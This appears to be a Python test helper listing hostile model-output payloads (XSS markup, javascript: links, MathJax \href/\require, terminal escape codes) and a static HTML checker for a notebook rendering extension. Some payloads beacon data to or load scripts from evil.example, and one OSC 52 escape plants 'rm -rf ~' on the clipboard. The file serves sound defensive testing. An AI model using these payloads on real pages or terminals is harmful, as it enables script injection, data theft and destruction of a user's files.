"""A corpus of hostile model output, and a checker for the HTML made of it (shared by the tests).

Each payload, if it ever became live markup, sets `window.__<name>` (or makes
a request to a host other than 127.0.0.1). The browser test asserts from
the page that no flag is set; `violations` checks HTML statically.
"""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

# The four payloads that ran script in JupyterLab 4.6 (issue #11), then variants.
PAYLOADS: dict[str, str] = {
    "p1_dollar_backtick": 'Note: $\\\\`$ <img src=x onerror="window.__p1=1">`',
    "p2_paren_backtick": 'Cost: \\\\( `\\\\) <img src=x onerror="window.__p2=1">`',
    "p3_paren_fence": 'see \\\\(\n~~~ \\\\)<img src=x onerror="window.__p3=1">',
    "p4_dollar_link": '[docs]($"onmouseover="window.__p4=1"style="position:fixed;inset:0"$)',
    "script_tag": "<script>window.__script=1</script>",
    "img_onerror": '<img src=x onerror="window.__img=1">',
    "svg_onload": '<svg onload="window.__svg=1"><circle r=9></circle></svg>',
    "style_cover": "<style>body{display:none} .jp-Notebook{visibility:hidden}</style>hidden?",
    "iframe": '<iframe src="javascript:window.parent.__iframe=1"></iframe>',
    "form": '<form action="http://evil.example/"><input name=q autofocus onfocus="window.__form=1"></form>',
    "object_embed": '<object data="javascript:window.__object=1"></object><embed src="http://evil.example/x.swf">',
    "js_link": "[click](javascript:window.__jslink=1)",
    "js_link_entities": "[click](&#106;avascript:window.__jsent=1) [tab](java&#x09;script:window.__jstab=1)",
    "data_link": "[x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19kYXRhPTE8L3NjcmlwdD4=)",
    "vbscript_link": "[x](vbscript:msgbox(1)) <vbscript:msgbox(2)>",
    "js_autolink_ref": "<javascript:window.__auto=1>\n\n[r][ref]\n\n[ref]: javascript:window.__ref=1",
    "remote_image": "![pixel](http://evil.example/beacon.png?secret=1) ![rel](//evil.example/b.png)",
    "html_image_entities": "&lt;img src=x onerror=window.__ent=1&gt; &#60;script&#62;window.__ent2=1&#60;/script&#62;",
    "mathjax_href": "$\\href{javascript:window.__mjhref=1}{click me}$ and $$\\href{javascript:window.__mjhref2=1}{x}$$",
    "mathjax_style_class": "\\(\\style{position:fixed;inset:0;background:red}{x}\\) \\(\\class{jp-Notebook}{y}\\) $\\unicode{x41}$",
    "mathjax_require": "$\\require{http://evil.example/ext.js}$ \\[\\require{action}\\toggle{a}{b}\\endtoggle\\]",
    "mathjax_begin_env": "\\begin{equation}\\href{javascript:window.__mjenv=1}{e}\\end{equation}",
    "nested_backticks": "``a `<img src=x onerror=window.__nb=1>` b`` ` <script>window.__nb2=1</script>",
    "unbalanced_fence": "```\n</details></pre><img src=x onerror=window.__uf=1>\n",
    "fence_in_list": "1. step\n   ```\n   code\n<script>window.__fl=1</script>\n   ```",
    "close_our_html": "</code></pre></details></summary></small></div><img src=x onerror=window.__close=1>",
    "attribute_breakout": '" onmouseover="window.__attr=1" x="',
    "table_html": "| a | b |\n|---|---|\n| `x | <img src=x onerror=window.__tbl=1>` |",
    "comment_cdata": "<!-- --><img src=x onerror=window.__cm=1><!-- --> <![CDATA[<script>window.__cd=1</script>]]>",
    "base_meta": '<base href="http://evil.example/"><meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "link_import": '<link rel="stylesheet" href="http://evil.example/x.css"><link rel=prefetch href=//evil.example/p>',
    "math_tag": '<math><mtext><table><mglyph><style><img src=x onerror="window.__mx=1">',
    "terminal_escapes": "ok\x1b]52;c;cm0gLXJmIH4=\x07 \x1b]0;pwned\x07\r\x1b[2Kfake prompt \x1b[8mhidden\x1b[0m \x9b31m",
}

# Model names are shown in the footer and in listings: text, never links or images.
HOSTILE_MODEL_NAMES = [
    "![x](http://evil.example/beacon.png)",
    "[x](javascript:window.__model=1)",
    '<img src=x onerror="window.__model2=1">',
    "$\\href{javascript:window.__model3=1}{m}$",
]

ESCAPES = ["\x1b]52;", "\x1b]0;", "\r\x1b[2K", "\x1b[8m", "\x07", "\x9b"]  # must never reach a terminal raw

FORBIDDEN_TAGS = {"script", "iframe", "style", "form", "svg", "object", "embed", "img", "math", "input",
                  "base", "meta", "link", "frame", "frameset", "textarea", "button", "select", "video",
                  "audio", "source", "picture", "template", "applet"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "srcset", "background"}
SAFE_SCHEMES = {"http", "https", "mailto", ""}


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def violations(html: str, *, allowed_classes: set[str] | None = None) -> list[str]:
    """What in `html` could be live: forbidden tags, on* or style attributes, bad URLs, foreign classes."""
    parser = _Collect()
    parser.feed(html)
    parser.close()
    ours = allowed_classes if allowed_classes is not None else {
        "tex2jax_ignore", "mathjax_ignore", "ollama-magic-reply"}
    found = []
    for tag, attrs in parser.tags:
        if tag in FORBIDDEN_TAGS:
            found.append(f"<{tag}>")
        for name, value in attrs:
            value = value or ""
            if name.startswith("on") or name in ("style", "id", "srcdoc"):
                found.append(f"<{tag} {name}=...>")
            if name in URL_ATTRIBUTES:
                scheme = urlsplit(value.strip()).scheme.lower()
                if scheme not in SAFE_SCHEMES or (name == "src"):
                    found.append(f"<{tag} {name}={value!r}>")
            if name == "class":
                extra = {c for c in value.split() if not c.startswith("language-")} - ours
                if extra:
                    found.append(f"<{tag} class={value!r}>")
    return found
